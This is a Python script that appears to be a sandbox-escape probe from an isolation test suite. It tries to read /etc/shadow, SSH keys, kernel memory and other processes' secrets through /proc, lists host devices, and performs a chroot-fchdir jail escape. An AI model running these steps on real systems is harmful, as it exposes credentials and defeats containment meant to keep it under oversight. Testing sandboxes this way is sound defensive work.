"""Reads what belongs to the machine: users, keys, memory, disks, the checkout; by old roots and other names too."""

import glob
import os

from attack import TARGETS, attempt, done

PLACES = """
/etc/shadow /etc/hosts /etc/hostname /etc/machine-id /etc/ssh /proc/kcore /dev/mem /dev/kmem
/sys/class /sys/fs/cgroup /run /var/log /home /root/.ssh /root/.bashrc /boot /opt
/oldroot /newroot /.oldroot /host /mnt /media /proc/1/root/oldroot /.box
"""
DEVICES = ("sd", "vd", "nvme", "kvm", "fuse", "loop", "dri", "input", "mapper", "vsock", "nvidia")

for path in PLACES.split():
    attempt(path, lambda path=path: os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(16))
for name in ("pyproject.toml", ".git", "metadata", "code", "derivative_manim", "tests"):
    attempt(name, lambda name=name: os.stat(os.path.join(TARGETS["checkout"], name)))
for path in glob.glob("/dev/*"):
    if os.path.basename(path).startswith(DEVICES):
        print("ESCAPED:", path)
print(open("/etc/passwd").read())
for number in range(3000):
    for secret in TARGETS["secrets"]:
        try:
            print("ESCAPED:", open(f"/proc/{number}/root{secret}").read())
        except OSError:
            pass
os.mkdir("jail")
here = os.open("/", os.O_RDONLY)
attempt("chroot", lambda: os.chroot("jail"))
os.fchdir(here)
for _ in range(50):
    os.chdir("..")
for secret in TARGETS["secrets"]:
    attempt("above the root", lambda secret=secret: open(secret.lstrip("/")).read())
done()
